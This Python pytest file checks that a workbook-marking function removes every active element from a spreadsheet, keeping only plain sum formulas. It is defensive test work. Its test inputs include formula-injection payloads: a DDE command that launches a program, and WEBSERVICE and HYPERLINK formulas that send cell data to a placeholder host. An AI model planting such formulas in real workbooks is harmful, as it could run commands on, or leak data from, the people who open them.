"""A marked workbook acts on nobody: no formula but plain sums, no link out, no name, rule or pivot that computes."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link import ExternalLink
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from lindung.documents.inert_workbook import is_plain_sum
from lindung.documents.marked_workbook import marked_workbook
from lindung.documents.marks import Mark


@pytest.mark.parametrize(
    "formula",
    ["=SUM(A1:A9)", "=sum($A$1:$A$9,C3)", "=SUBTOTAL(9,H7:H70)", "=COUNTA(B2:B80)", "=COUNT(B2:B80;C2)"],
)
def test_a_plain_sum_stays(formula: str) -> None:
    assert is_plain_sum(formula)


ACTING = [
    '=HYPERLINK("http://a.example/"&SUM(A1:A9))', '=WEBSERVICE("http://a.example/"&A1)&SUM(A1:A2)',
    "=SUM([1]Lembar1!A1:A9)", "='[http://a.example/x.xlsx]S'!A1", "=SUM(Rahasia!A1:A9)", "=SUM(A1:A9)+1",
    "=SUM(INDIRECT(A1))", "=IF(SUM(A1:A2)>0,HYPERLINK(A1),1)", "=cmd|' /C calc'!A0", "=SUM(A1:A9)\n+CALL(1)",
    "+SUM(A1:A9)", "=DDE(\"a\",\"b\",SUM(A1:A2))", "=SUM(nama)", '=IMAGE("http://a.example/")', "=SUM()",
]  # fmt: skip


@pytest.mark.parametrize("formula", ACTING)
def test_what_does_more_goes(formula: str, tmp_path: Path) -> None:
    assert not is_plain_sum(formula)
    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"], book.active["C3"] = "NIK", "7413014508909001", formula
    again = marked(book, tmp_path)
    assert not any(cell.data_type == "f" for row in again.active.iter_rows() for cell in row)


def marked(book: openpyxl.Workbook, folder: Path) -> openpyxl.Workbook:
    path = folder / "kantor.xlsx"
    book.save(path)
    return openpyxl.load_workbook(io.BytesIO(marked_workbook(path, [Mark("Sheet", 2, "A2", "salah")])))


def test_nothing_in_it_acts_and_what_is_only_form_stays(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (["NIK", "Nama", "Upah"], ["7413014508909001", "Rekaan", 5], ["7413014508909002", "Rekaan", 6]):
        sheet.append(row)
    sheet["C4"] = "=SUM(C2:C3)"
    sheet["D2"] = ArrayFormula("D2:D3", '=WEBSERVICE("http://a.example")')
    sheet["B2"].hyperlink = "http://a.example/"
    book.defined_names["keluar"] = DefinedName("keluar", attr_text='HYPERLINK("http://a.example")')
    book.defined_names["lain"] = DefinedName("lain", attr_text="[1]S!$A$1")
    book.defined_names["tempat"] = DefinedName("tempat", attr_text="Sheet!$A$1:$C$4")
    sheet.defined_names["lokal"] = DefinedName("lokal", attr_text="GET.CELL(5,Sheet!A1)")
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=['WEBSERVICE("http://a.example")>0']))
    for formula in ('"PNS,Honorer"', "Sheet!$A$1:$A$3", "INDIRECT(A1)"):
        rule = DataValidation(type="list", formula1=formula)
        rule.add("B2")
        sheet.add_data_validation(rule)
    link = ExternalLink()
    link.file_link = openpyxl.packaging.relationship.Relationship(
        type="externalLinkPath", Target="http://a.example/x.xlsx"
    )
    book._external_links.append(link)
    again = marked(book, tmp_path)
    found = again.active
    formulas = [cell.value for row in found.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == ["=SUM(C2:C3)"]
    assert found["B2"].hyperlink is None
    assert list(again.defined_names) == ["tempat"]
    assert list(found.defined_names) == []
    assert list(found.conditional_formatting) == []
    assert [rule.formula1 for rule in found.data_validations.dataValidation] == ['"PNS,Honorer"', "Sheet!$A$1:$A$3"]
    assert again._external_links == []
    assert found["A2"].comment.text == "salah"
    raw = b"".join(part for part in _parts(tmp_path / "kantor.xlsx"))
    assert b"a.example" in raw
    out = tmp_path / "bertanda.xlsx"
    out.write_bytes(marked_workbook(tmp_path / "kantor.xlsx", [Mark("Sheet", 2, "A2", "salah")]))
    assert b"a.example" not in b"".join(_parts(out))


def _parts(path: Path) -> list[bytes]:
    from zipfile import ZipFile

    with ZipFile(path) as archive:
        return [archive.read(name) for name in archive.namelist()]
